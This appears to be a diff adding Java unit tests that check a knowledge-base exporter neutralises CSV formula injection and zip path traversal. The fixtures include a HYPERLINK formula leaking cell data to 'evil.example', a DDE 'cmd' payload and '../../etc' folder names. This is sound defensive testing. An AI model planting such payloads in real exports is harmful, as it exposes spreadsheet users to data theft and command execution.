@@ -3,7 +3,13 @@ package io.oriole.knowledge.internal;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
 import java.time.Instant;
 import java.util.List;
 
@@ -46,6 +52,68 @@ class KnowledgeFilesTests {
             assertThat(r.draft().phrasings()).isEqualTo(ADDRESS.phrasings());
             assertThat(r.draft().category()).isEqualTo("delivery");
         });
+    }
+
+    @Test
+    void csvCellsASpreadsheetWouldRunAsFormulasAreExportedAsTextAndReadBackAsWritten() {
+        KnowledgeEntry hostile = new KnowledgeEntry(8, 1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")",
+                "+1 555 0100 or -2 days @noon", List.of("-5% off?", "@SUM(A1:A9)"), "@billing", Language.EN,
+                List.of("=cmd|' /C calc'!A0", "'=already quoted", "'plain'"), EntryStatus.PUBLISHED, 1,
+                Instant.EPOCH, Instant.EPOCH, "admin@example.com");
+
+        byte[] csv = KnowledgeFiles.toCsv(List.of(hostile));
+
+        List<String> cells = KnowledgeFiles.parseCsv(new String(csv, StandardCharsets.UTF_8)).get(1);
+        assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
+                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
+        assertThat(cells.get(1)).startsWith("'=HYPERLINK(");
+        assertThat(cells.get(5)).isEqualTo("'=cmd|' /C calc'!A0;'=already quoted;'plain'");
+        assertThat(KnowledgeFiles.fromCsv(csv)).singleElement().satisfies(r -> {
+            assertThat(r.draft().title()).isEqualTo(hostile.title());
+            assertThat(r.draft().body()).isEqualTo(hostile.body());
+            assertThat(r.draft().phrasings()).isEqualTo(hostile.phrasings());
+            assertThat(r.draft().category()).isEqualTo("@billing");
+            assertThat(r.draft().tags()).isEqualTo(hostile.tags());
+        });
+    }
+
+    @Test
+    void aNeutralisedCellReadsBackAsTheTextThatWasExportedEvenWhenItStartedWithApostrophes() {
+        for (String text : List.of("=1+1", "'=1+1", "''@x", "-", "\tTab", "'quoted'", "plain", "it's", "")) {
+            assertThat(KnowledgeFiles.restored(KnowledgeFiles.neutralised(text))).as(text).isEqualTo(text);
+        }
+        assertThat(KnowledgeFiles.neutralised("'=1+1")).isEqualTo("''=1+1");
+        assertThat(KnowledgeFiles.neutralised("'quoted'")).isEqualTo("'quoted'");
+    }
+
+    @Test
+    void markdownFolderNamesNeverLeadOutOfTheFolderTheZipIsUnpackedInto() throws IOException {
+        List<String> categories = List.of("..", ".", "...", "../../etc", "..\\..\\windows", "a/../../b", "/abs",
+                "con", "billing.");
+        List<KnowledgeEntry> entries = new ArrayList<>();
+        for (int i = 0; i < categories.size(); i++) {
+            entries.add(new KnowledgeEntry(100 + i, 1, "Entry " + i, "Answer " + i, List.of(), categories.get(i),
+                    Language.EN, List.of(), EntryStatus.PUBLISHED, 1, Instant.EPOCH, Instant.EPOCH, "a@example.com"));
+        }
+
+        byte[] zip = KnowledgeFiles.toMarkdownZip(entries);
+
+        Path target = Path.of("unpacked");
+        List<String> names = new ArrayList<>();
+        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip), StandardCharsets.UTF_8)) {
+            for (ZipEntry z; (z = in.getNextEntry()) != null;) {
+                names.add(z.getName());
+            }
+        }
+        assertThat(names).hasSize(categories.size()).allSatisfy(name -> {
+            assertThat(target.resolve(name).normalize().startsWith(target)).as(name).isTrue();
+            assertThat(name.split("/")).as(name).hasSize(2).doesNotContain("..", ".", "");
+            assertThat(name).doesNotContain("\\");
+        });
+        assertThat(names).contains("general/100-entry.md", "etc/103-entry.md", "a-b/105-entry.md",
+                "abs/106-entry.md", "_con/107-entry.md", "billing/108-entry.md");
+        assertThat(KnowledgeFiles.fromMarkdownZip(zip)).extracting(r -> r.draft().category())
+                .containsExactlyElementsOf(categories);
     }
 
     @Test
